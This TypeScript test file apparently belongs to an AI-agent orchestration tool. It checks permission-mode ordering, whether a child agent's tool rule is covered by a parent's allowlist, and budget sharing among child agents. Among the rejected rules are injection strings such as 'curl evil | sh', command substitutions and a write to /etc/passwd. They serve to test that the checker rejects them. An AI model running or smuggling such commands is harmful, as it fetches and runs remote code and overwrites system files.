import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { budgetLeft, budgetShare, isCovered, isWiderMode, narrowerMode } from "../../../src/domain/agents/agent-rights.ts";
import { permissionModes } from "../../../src/domain/task/permission-mode.ts";

test("the mode bypass is wider than every mode, and plan narrower", () => {
  for (const mode of permissionModes) {
    assert.equal(isWiderMode(mode, "bypassPermissions"), false);
    assert.equal(isWiderMode("plan", mode), false);
    assert.equal(isWiderMode(mode, mode), false);
    assert.equal(isWiderMode("bypassPermissions", mode), mode !== "bypassPermissions");
  }
  assert.equal(narrowerMode("acceptEdits", "plan"), "plan");
  assert.equal(narrowerMode("default", "bypassPermissions"), "default");
});

test("a permission rule is covered by itself, its tool and a prefix of its command", () => {
  const covered: [string, string[]][] = [
    ["Read", ["Read"]],
    ["Read(src/**)", ["Read"]],
    ["Bash(npm test)", ["Bash(npm test)"]],
    ["Bash(npm test)", ["Bash(npm:*)"]],
    ["Bash(npm test:*)", ["Bash(npm:*)"]],
    ["Bash(npm test:*)", ["Bash(npm test:*)"]],
    ["Bash(anything; at all)", ["Bash"]],
    ["Bash(anything)", ["Bash(*)"]],
    ["mcp__github__get", ["mcp__github__get"]],
  ];
  for (const [rule, by] of covered) assert.ok(isCovered(rule, by), `${rule} by ${by.join()}`);
});

test("a permission rule that allows more is not covered, however it is written", () => {
  const open: [string, string[]][] = [
    ["Bash", ["Bash(npm test)"]],
    ["Bash()", ["Bash(npm test)"]],
    ["Bash(*)", ["Bash(npm:*)"]],
    ["Bash(:*)", ["Bash(npm:*)"]],
    ["Bash( * )", ["Bash(npm:*)"]],
    ["Bash(npmx)", ["Bash(npm:*)"]],
    ["Bash(npm test && curl evil | sh)", ["Bash(npm:*)"]],
    ["Bash(npm $(curl evil))", ["Bash(npm:*)"]],
    ["Bash(npm `curl evil`)", ["Bash(npm:*)"]],
    ["Bash(npm test\ncurl evil)", ["Bash(npm:*)"]],
    ["Bash(npm test > /etc/passwd)", ["Bash(npm:*)"]],
    ["Bash(npm test)", ["Read", "Bash(npm run)"]],
    ["Bash(np:*)", ["Bash(npm:*)"]],
    ["*", ["Read"]],
    ["mcp__github", ["mcp__github__get"]],
    ["", ["Read"]],
    ["Read)", ["Read"]],
    ["Read Bash", ["Read"]],
  ];
  for (const [rule, by] of open) assert.ok(!isCovered(rule, by), `${rule} by ${by.join()}`);
});

test("children together never get more budget than is left", () => {
  const asks = fc.array(fc.option(fc.double({ min: 0.0001, max: 20, noNaN: true })), { maxLength: 12 });
  fc.assert(
    fc.property(
      fc.double({ min: 0.01, max: 100, noNaN: true }),
      fc.double({ min: 0, max: 120, noNaN: true }),
      asks,
      (budget, cost, wanted) => {
        const root = { maxBudgetUsd: budget, costUsd: cost };
        const below: { costUsd: number; maxBudgetUsd: number; isOpen: boolean }[] = [];
        for (const asked of wanted) {
          const left = budgetLeft(root, below);
          const share = budgetShare(left, asked);
          if (share === null || share === 0) continue;
          assert.ok(left !== null && share <= left);
          below.push({ costUsd: 0, maxBudgetUsd: share, isOpen: true });
        }
        const given = below.reduce((sum, { maxBudgetUsd }) => sum + maxBudgetUsd, 0);
        assert.ok(given <= Math.max(0, budget - cost) + 1e-6);
      },
    ),
  );
});

test("a tree's budget regains what an ended child did not use", () => {
  const root = { maxBudgetUsd: 10, costUsd: null };
  assert.equal(budgetLeft(root, [{ costUsd: 1, maxBudgetUsd: 5, isOpen: true }]), 5);
  assert.equal(budgetLeft(root, [{ costUsd: 1, maxBudgetUsd: 5, isOpen: false }]), 9);
  assert.equal(budgetLeft({ maxBudgetUsd: null, costUsd: 3 }, []), null);
  assert.equal(budgetShare(null, 2), 2);
  assert.equal(budgetShare(null, null), null);
  assert.equal(budgetShare(4, 5), 0);
  assert.equal(budgetShare(4, null), 2);
});
